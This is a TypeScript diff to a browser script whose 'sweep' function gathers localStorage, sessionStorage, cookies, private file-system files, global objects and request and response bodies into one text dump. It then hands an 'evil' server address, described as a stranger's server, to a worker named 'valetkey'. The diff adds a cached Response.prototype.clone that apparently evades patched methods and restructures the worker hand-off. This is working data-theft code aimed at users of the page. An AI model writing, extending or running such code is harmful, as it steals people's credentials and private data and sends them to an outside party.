@@ -4,6 +4,7 @@
  */
 const got: string[] = [];
 const known = new WeakSet<object>();
+const { clone: copyOf } = Response.prototype;
 
 /** Everything that can be read of a value, functions' text included. */
 function took(from: string, value: unknown, depth = 0): void {
@@ -16,13 +17,11 @@ function took(from: string, value: unknown, depth = 0): void {
   if (value instanceof URLSearchParams || value instanceof URL) got.push(`${from}: ${value}`);
   if (value instanceof Headers) got.push(`${from}: ${JSON.stringify([...value])}`);
   if (value instanceof Request || value instanceof Response) {
-    value
-      .clone()
-      .text()
-      .then(
-        (text) => got.push(`${from}: ${text}`),
-        () => {},
-      );
+    const copy = value instanceof Response ? Reflect.apply(copyOf, value, []) : value.clone();
+    copy.text().then(
+      (text) => got.push(`${from}: ${text}`),
+      () => {},
+    );
   }
   if (typeof value === "function") return;
   for (const name of Reflect.ownKeys(value)) {
@@ -159,8 +158,14 @@ async function files(folder: FileSystemDirectoryHandle): Promise<void> {
   }
 }
 
-/** @returns all that was heard and found, as text. */
-async function sweep(evil: string): Promise<string> {
+function lineToWorker(): Pick<MessagePort, "postMessage" | "onmessage"> {
+  const named = { type: "module", name: "valetkey", extendedLifetime: true } as const;
+  if (typeof SharedWorker === "function") return new SharedWorker("/worker.js", named).port;
+  return new Worker("/worker.js", named) as unknown as MessagePort;
+}
+
+/** @param evil a server of the stranger's, to which the worker is asked to turn. @returns all that was heard and found, as text. */
+async function sweep(evil?: string): Promise<string> {
   took("localStorage", { ...localStorage });
   took("sessionStorage", { ...sessionStorage });
   took("cookies", document.cookie);
@@ -177,12 +182,7 @@ async function sweep(evil: string): Promise<string> {
   }
   await files(await navigator.storage.getDirectory());
   took("globals", { ...globalThis });
-  if (typeof SharedWorker === "function") {
-    const named = { type: "module", name: "valetkey", extendedLifetime: true } as const;
-    await ask(new SharedWorker("/worker.js", named).port, evil);
-  } else {
-    await ask(new Worker("/worker.js", { type: "module", name: "valetkey" }) as unknown as MessagePort, evil);
-  }
+  if (evil) await ask(lineToWorker(), evil);
   await new Promise((resolve) => setTimeout(resolve, 100));
   return got.join("\n");
 }
